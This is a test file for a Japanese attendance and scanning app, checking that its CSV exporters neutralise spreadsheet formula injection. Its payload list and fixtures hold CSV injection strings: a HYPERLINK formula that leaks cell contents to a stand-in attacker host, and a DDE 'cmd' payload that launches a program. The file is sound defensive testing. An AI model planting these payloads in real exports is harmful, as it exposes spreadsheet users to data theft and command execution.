// Attack suite, exports (issue 10, reproduction 7): text a worker, a keyer or a city's volume list put into the
// data must never run as a formula in the spreadsheet of whoever opens the export. One helper, checked in every
// exporter that writes CSV.
import fs from 'node:fs';
import path from 'node:path';
import iconv from 'iconv-lite';
import { describe, expect, it } from 'vitest';
import { csvCell, csvText, neutraliseCsvText } from '../../../src-shared/core/csv';
import { vehicleLogTemplate } from '../../../src-shared/entry/builtin';
import { jstMonth } from '../../../src-shared/core/time';
import { newId } from '../../../src-shared/core/ids';
import { exportRecords } from '../../../src-main/entry/export';
import { tempDir } from '../../helpers/app';
import { MIN, mustKioskPunch, openAttendanceApp, staffToken, workerByCode } from '../attendance/helpers';

const payloads = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1'];

/** Splits one CSV line into its cells, honouring quotes (enough for these tests). */
function cells(line: string): string[] {
  const out: string[] = [];
  let cur = '';
  let quoted = false;
  for (let i = 0; i < line.length; i++) {
    const ch = line[i]!;
    if (quoted) {
      if (ch === '"' && line[i + 1] === '"') {
        cur += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cur += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      out.push(cur);
      cur = '';
    } else cur += ch;
  }
  out.push(cur);
  return out;
}

/** No cell of the CSV starts with a character a spreadsheet would treat as the start of a formula. */
function expectNoFormula(csv: string): void {
  const text = csv.replace(/^\uFEFF/, '');
  // Quoted cells may hold CR/LF: only split lines outside quotes.
  const lines: string[] = [];
  let cur = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (ch === '"') quoted = !quoted;
    if (!quoted && ch === '\r' && text[i + 1] === '\n') {
      lines.push(cur);
      cur = '';
      i++;
    } else cur += ch;
  }
  for (const line of lines) {
    for (const cell of cells(line)) {
      if (/^[+-]?(\d+(\.\d*)?|\.\d+)$/.test(cell)) continue;
      expect(cell, line).not.toMatch(/^[=+\-@\t\r]/);
    }
  }
}

describe('the CSV cell helper', () => {
  it('prefixes a quote to every formula start and quotes what needs it', () => {
    for (const p of payloads) expect(neutraliseCsvText(p)).toBe(`'${p}`);
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('=A1,"x"')).toBe(`"'=A1,""x"""`);
    expect(csvCell('\r=1')).toBe(`"'\r=1"`);
    // Plain numbers and ordinary text are left alone.
    for (const plain of ['-500', '+3', '12.5', '山田 太郎', 'W0001', '2026-11-25', '']) expect(csvCell(plain)).toBe(plain);
    expect(csvCell(-15)).toBe('-15');
    expect(csvText([['=1', 'a'], ['b', '@c']])).toBe("'=1,a\r\nb,'@c\r\n");
  });
});

describe('every CSV exporter neutralises formulas', () => {
  it('timesheet CSV, UTF-8 and CP932', async () => {
    const t = openAttendanceApp();
    const admin = await staffToken(t, 'admin');
    const w = await workerByCode(t, 'W0030');
    await t.must('people.saveWorker', { ...w, familyName: '=HYPERLINK("http://evil.example","x")', givenName: '@SUM(1+1)' }, admin);
    await mustKioskPunch(t, 'W0030', 'in');
    t.clock.advance(30 * MIN);
    await mustKioskPunch(t, 'W0030', 'out');
    const month = jstMonth(t.clock.now());
    // Half an hour away locked the first session (idle lock): sign in again.
    const office = await staffToken(t, 'admin');
    const utf8 = await t.must('attendance.export', { month, format: 'csv' }, office);
    const text = Buffer.from(utf8.base64, 'base64').subarray(3).toString('utf8');
    expect(text).toContain(`W0030,"'=HYPERLINK(""http://evil.example"",""x"") @SUM(1+1)"`);
    expectNoFormula(text);
    const sjis = await t.must('attendance.export', { month, format: 'csv', encoding: 'cp932' }, office);
    const decoded = iconv.decode(Buffer.from(sjis.base64, 'base64'), 'cp932');
    expect(decoded).toContain(`"'=HYPERLINK(`);
    expectNoFormula(decoded);
    t.close();
  }, 120_000);

  it('keyed-data CSV, UTF-8 and CP932, keeping plain negative numbers', async () => {
    const def = vehicleLogTemplate.def;
    const values = Object.fromEntries(def.row.map((f) => [f.key, '=1+1']));
    const records = [
      { batchCode: 'B', unitId: 'u', unitLabel: '@unit', pageId: 'p', pageSeq: 1, rowNo: 1, header: { vehicle: '+81-90', ownerDepartment: '-2+3' }, values: { ...values, odoOut: '-500', notes: '\t=cmd' }, status: 'accepted' as const },
    ];
    for (const format of ['csv', 'csv-cp932'] as const) {
      const file = await exportRecords(def, records, format, 'batch');
      const bytes = Buffer.from(file.base64, 'base64');
      const text = format === 'csv' ? bytes.subarray(3).toString('utf8') : iconv.decode(bytes, 'cp932');
      expectNoFormula(text);
      const row = cells(text.split('\r\n')[1]!);
      expect(row[0]).toBe("'@unit");
      expect(row[3]).toBe("'+81-90");
      expect(row).toContain('-500');
      expect(row).toContain("'\t=cmd");
    }
  });

  it('delivery manifest CSV (titles come from the city’s volume list)', async () => {
    const t = openAttendanceApp();
    const token = (await t.must('auth.login', { loginId: 'manager', password: 'tomoni-demo' })).token;
    const jobId = newId();
    await t.must('people.saveJob', { id: jobId, code: 'ARCHIVE-07', name: '図面', clientName: '=evil()', kind: 'scan', restriction: 'center_only', status: 'active', startDate: null, dueDate: null }, token);
    await t.must('scan.addVolume', { jobId, volumeNo: '001', title: '=HYPERLINK("http://evil.example","図面")', shelfNo: '@K-1', expectedPages: 1, format: 'A0', restriction: 'none', dcDate: '-1+1' }, token);
    const folder = tempDir('tomoni-delivery-');
    fs.writeFileSync(path.join(folder, 'ARCHIVE-07_001_0001.tif'), 'tiff');
    const m = await t.must('scan.buildManifest', { jobId, folder, shipmentNo: 'S001' }, token);
    expect(m.fileCount).toBe(1);
    expectNoFormula(m.csv);
    const row = cells(m.csv.slice(1).split('\r\n')[1]!);
    expect(row[2]).toBe(`'=HYPERLINK("http://evil.example","図面") 1`);
    expect(row[3]).toBe("'=evil()");
    expect(row[6]).toBe("'-1+1");
    t.close();
  }, 120_000);
});
